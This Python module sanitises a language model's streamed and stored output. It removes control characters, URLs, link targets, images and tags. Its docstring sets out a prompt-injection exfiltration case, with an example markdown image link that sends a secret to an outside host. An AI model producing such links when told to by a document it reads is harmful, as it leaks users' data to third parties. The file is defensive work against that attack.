"""One way for the model's text to reach anybody: without control characters, links or images.

A document can make a model write `![](https://somewhere/?q=secret)`, and a client that renders
it would send the secret. The same code cleans streamed and stored text, so there is no second
path to forget.

Whatever is removed is a run of printable ASCII, so a stream only has to hold back the run at its
end: cut anywhere else, the pieces are cleaned to the same text as the whole. Chinese flows on.
"""

import re

#: Besides control characters: invisible ones, ones that turn the direction of text, tags, and the
#: mark of a broken character, which a model makes and no document means.
CONTROL = re.compile(
    "[\x00-\x08\x0b-\x1f\x7f-\x9f\xad\u061c\u180e\u200b-\u200f\u2028-\u202e\u2060-\u206f"
    "\ufeff\ufff9-\ufffb\ufffd\U000e0000-\U000e0fff]"
)
RUN = "".join(map(chr, range(0x21, 0x7F)))
LINK_TARGET = re.compile(r"\](?:\([!-'*-~]*\)?)+")
_BODY = r"[!#-&(-;=?-~]"
URL = re.compile(
    rf"(?:[A-Za-z][A-Za-z0-9+.-]*://|//(?={_BODY})"
    rf"|(?<![A-Za-z0-9])(?:[Ww]{{3}}\.|(?i:javascript|vbscript):|(?i:data):[A-Za-z;,])(?={_BODY}))"
    # but not the punctuation of the sentence around it
    rf"(?:{_BODY}+(?<![]).,:;!?]))?",
    re.ASCII,
)
IMAGE = re.compile(r"!+\[")
TAG = re.compile(r"<(?=[A-Za-z/!?])")
REMOVED = "[link removed]"


class Sanitiser:
    """Cleans one answer while it is written."""

    def __init__(self) -> None:
        self._held = ""

    def push(self, text: str) -> str:
        """Add text; returns what can be shown now."""
        self._held += CONTROL.sub("", text)
        cut = len(self._held.rstrip(RUN))
        ready, self._held = self._held[:cut], self._held[cut:]
        return clean(ready)

    def finish(self) -> str:
        """The rest, when nothing more will come."""
        rest, self._held = self._held, ""
        return clean(rest)


def clean(text: str) -> str:
    """`text` as it may be shown and stored."""
    text = CONTROL.sub("", text)
    text = LINK_TARGET.sub("]", text)
    text = URL.sub(REMOVED, text)
    text = IMAGE.sub("[", text)
    return TAG.sub("‹", text)
